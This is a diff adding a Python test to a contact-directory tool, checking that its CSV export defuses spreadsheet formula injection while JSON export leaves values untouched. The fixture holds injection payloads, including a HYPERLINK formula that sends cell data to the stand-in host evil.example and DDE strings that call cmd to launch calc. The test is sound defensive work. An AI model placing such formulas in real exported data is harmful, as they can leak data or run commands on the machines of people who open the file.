@@ -11,7 +11,10 @@ from typing import Any
 import pytest
 import vobject
 
+from kontakt import Directory
 from kontakt._cli import main
+from kontakt._export import to_csv, to_json
+from support.helpers import data_file
 from support.paths import FIXTURES, SOLSJO_FILE
 
 CASES = FIXTURES / "export"
@@ -256,3 +259,28 @@ def test_vcard_version_needs_vcf(capsys: pytest.CaptureFixture[str]) -> None:
     assert capsys.readouterr().err == (
         "kontakt: error: --vcard-version applies to --format vcf only\n"
     )
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_text() -> None:
+    # Fictional; numbers from PTS's series for fiction.
+    directory = Directory.from_text(
+        data_file("""\
+        people:
+          - first_name: Eva
+            last_name: Ek
+            title: '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+            department: "-2+3"
+            email: "=cmd|'/Ccalc'!A0@example.com"
+            phones: [0980-31 92 10]
+            topics: ["@SUM(1+1)*cmd|' /C calc'!A0", vanlig]
+        """)
+    )
+    (row,) = csv.DictReader(io.StringIO(to_csv(directory), newline=""))
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+    assert row["department"] == "'-2+3"
+    assert row["email"] == "'=cmd|'/ccalc'!a0@example.com"
+    assert row["topics"] == "'@SUM(1+1)*cmd|' /C calc'!A0; vanlig"
+    # An E.164 number is checked by the loader and stays as it is.
+    assert row["phones"] == "+46980319210"
+    # JSON is no spreadsheet: values as they are.
+    assert json.loads(to_json(directory))[0]["title"].startswith("=HYPERLINK")
